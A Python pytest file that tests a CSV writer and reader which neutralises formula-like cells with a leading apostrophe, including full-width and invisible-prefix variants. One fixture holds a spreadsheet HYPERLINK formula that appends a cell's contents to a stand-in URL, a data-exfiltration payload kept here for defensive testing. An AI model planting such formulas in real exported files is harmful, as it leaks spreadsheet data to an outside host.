"""CSV without formulas, and back."""

from __future__ import annotations

import csv as standard
import io
import re
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cocsheets import csvtext

CS_53 = (
    '=HYPERLINK("https://example.net/?q="&B2,"click")',
    "@handle",
    "+1 for a ban",
    "-",
    'Doe, "JJ" Jane\n2nd line',
)


def test_cs_53_what_begins_like_a_formula_begins_with_an_apostrophe() -> None:
    """Each such cell gets the neutral character, the others are only quoted."""
    cells = next(standard.reader(io.StringIO(csvtext.write([CS_53]))))
    assert cells == [*("'" + text for text in CS_53[:4]), CS_53[4]]


def test_cs_53_one_record_is_one_row_and_reads_back() -> None:
    """Line breaks and quotes inside a cell do not make further rows."""
    assert csvtext.read(csvtext.write([CS_53, CS_53])) == [list(CS_53)] * 2


@pytest.mark.parametrize(
    "text",
    ["=1", " =1", "\t=1", "\ttext", "\r1", "\uff1d1", "\uff0b1", "\uff0d1", "\uff201", "'=1", "-5"],
)
def test_risky_beginnings_are_guarded(text: str) -> None:
    """White space in front and full-width signs do not help an attacker."""
    assert csvtext.escape(text) == "'" + text
    assert csvtext.unescape(csvtext.escape(text)) == text


@pytest.mark.parametrize("text", ["", "plain", "'quoted'", "1=2", "a@example.org", "007", "1e5"])
def test_harmless_texts_are_left_alone(text: str) -> None:
    """CS-23: what is text stays exactly the text that it is."""
    assert csvtext.escape(text) == csvtext.unescape(text) == text


def test_numbers_stay_numbers_and_none_is_empty() -> None:
    """A negative number is no formula."""
    assert csvtext.write([[-5, 1.5, None, True]]) == "-5,1.5,,True\n"


def test_a_byte_order_mark_is_ignored() -> None:
    """Spreadsheets like to write one."""
    assert csvtext.read("\ufeffa,b\n1,2\n") == [["a", "b"], ["1", "2"]]


@given(st.lists(st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=1)))
def test_any_text_comes_back(rows: list[list[str]]) -> None:
    """Writing and reading is the identity on any texts, guarded or not."""
    assert csvtext.read(csvtext.write(rows)) == rows


@given(st.text())
def test_nothing_guarded_is_left_risky(text: str) -> None:
    """No written text begins with a sign that starts a formula."""
    assert csvtext.escape(text).lstrip()[:1] not in set("=+-@\uff1d\uff0b\uff0d\uff20")


def test_every_twin_of_a_sign_is_guarded_behind_anything_that_nobody_sees() -> None:
    """Signs by compatibility (wide, small, raised, lowered), the minus; any space or control."""
    everything = [chr(code) for code in range(0x10000) if not 0xD800 <= code < 0xE000]
    signs = [one for one in everything if unicodedata.normalize("NFKC", one)[0] in "=+-@\u2212"]
    assert len(signs) > 15
    seen = re.compile(r"ARABIC|SYRIAC|KAITHI|EGYPTIAN")  # marks that are drawn
    unseen = [
        one
        for one in everything
        if unicodedata.category(one) in {"Cc", "Cf", "Zs", "Zl", "Zp"}
        and not seen.match(unicodedata.name(one, ""))
    ]
    for text in [*signs, *(f"{one}=1" for one in unseen), "\u200b\ufe0f \u00ad\uff1d1"]:
        assert csvtext.escape(text) == f"'{text}"
        assert csvtext.unescape(csvtext.escape(text)) == text
